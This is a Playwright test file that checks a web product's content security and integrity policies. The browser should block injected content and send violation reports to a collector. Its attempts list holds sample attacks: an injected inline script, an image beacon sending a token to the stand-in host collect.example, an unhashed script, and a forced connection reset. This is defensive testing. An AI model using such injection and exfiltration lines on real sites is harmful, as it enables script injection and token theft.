import { chromium } from "@playwright/test";
import { browserArguments } from "@portico/remote-kit/internal/setup";
import { expect, test } from "../support/exchangeFixture.ts";
import { keepPagePolicy, type PageWithPolicy } from "../support/keepPagePolicy.ts";
import { startTlsProxy } from "../support/startTlsProxy.ts";

/*
 * The browser itself reports what a policy blocks, so no script of the page can suppress it. Browsers report from and
 * to HTTPS hosts only: the page comes from a host of the product, and the report goes to the collector's.
 */

const pageHost = "test.portico.example";
const collectorHost = "log.test.portico.example";

const attempts = [
  {
    name: "an inline script",
    insert: () => {
      const script = document.createElement("script");
      script.append(document.createTextNode("window.__pwn = 1"));
      document.body.append(script);
    },
    expected: '"sample":"HTMLScriptElement text|window.__pwn = 1"',
  },
  {
    name: "an image with a token in its address on another host",
    insert: () => void (new Image().src = "https://collect.example/token"),
    expected: '"blockedURL":"https://collect.example/token"',
  },
  {
    name: "a script without a hash",
    insert: () => {
      const script = document.createElement("script");
      script.src = (window as unknown as PageWithPolicy).pagePolicy.createScriptURL("/assets/unknown.js");
      document.body.append(script);
    },
    expected: '"type":"integrity-violation"',
  },
  {
    name: "a request whose connection an attacker ends",
    insert: () => void fetch("/en/?request", { headers: { "x-fault": "reset" } }).catch(() => {}),
    expected: '"type":"network-error"',
  },
] as const;

for (const [index, { name, insert, expected }] of attempts.entries()) {
  const tag = index === 0 ? [] : "@nightly";
  test(
    `${name} is blocked, and the collector receives the browser's report`,
    { tag },
    async ({ exchange, request }) => {
      const collector = exchange.addressOf("global", "/__collector");
      await request.delete(collector);
      const proxy = await startTlsProxy([pageHost, collectorHost], exchange.port);
      const browser = await chromium.launch({
        executablePath: process.env["CHROMIUM_PATH"] ?? "",
        // the browser sends reports after a minute otherwise
        args: [...browserArguments, ...proxy.browserArguments, "--short-reporting-delay"],
      });
      try {
        // without it a Chromium that has no window sends no reports
        const context = await browser.newContext({ permissions: ["background-sync"] });
        const page = await context.newPage();
        await keepPagePolicy(page);
        await page.goto(`https://${pageHost}/en/`);
        await page.evaluate(insert);
        const readReports = async () => (await request.get(collector)).text();
        await expect.poll(readReports).toContain(expected);
        expect(await page.evaluate(() => "__pwn" in window)).toBe(false);
      } finally {
        await browser.close();
        proxy.close();
      }
    },
  );
}
